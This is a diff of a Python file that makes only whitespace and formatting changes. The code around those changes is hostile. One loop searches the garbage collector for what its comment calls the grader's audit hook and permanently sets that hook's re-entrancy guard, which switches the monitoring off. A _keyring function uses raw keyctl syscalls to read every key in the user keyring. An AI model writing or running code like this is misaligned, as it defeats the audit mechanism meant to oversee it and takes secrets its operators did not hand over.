@@ -8,7 +8,7 @@ import os
 import socket
 import sys
 
-for obj in gc.get_objects():     # the grader's audit hook, through gc: set its re-entrancy guard for good
+for obj in gc.get_objects():  # the grader's audit hook, through gc: set its re-entrancy guard for good
     if type(obj).__name__ == "function" and obj.__code__.co_name == "hook" and obj.__closure__:
         for name, cell in zip(obj.__code__.co_freevars, obj.__closure__):
             if name == "state":
@@ -40,14 +40,14 @@ def _ptys():
 def _keyring():
     libc = ctypes.CDLL(None, use_errno=True)
     buf = ctypes.create_string_buffer(4096)
-    n = libc.syscall(250, 11, ctypes.c_long(-4), buf, 4096)      # keyctl(KEYCTL_READ, KEY_SPEC_USER_KEYRING)
+    n = libc.syscall(250, 11, ctypes.c_long(-4), buf, 4096)  # keyctl(KEYCTL_READ, KEY_SPEC_USER_KEYRING)
     if n < 0:
         raise OSError(ctypes.get_errno(), "keyctl")
     out = []
     for i in range(0, min(n, 4096), 4):
-        serial = int.from_bytes(buf.raw[i:i + 4], "little")
+        serial = int.from_bytes(buf.raw[i : i + 4], "little")
         m = libc.syscall(250, 11, ctypes.c_long(serial), buf, 4096)
-        out.append(buf.raw[:max(m, 0)])
+        out.append(buf.raw[: max(m, 0)])
     return out
 
 
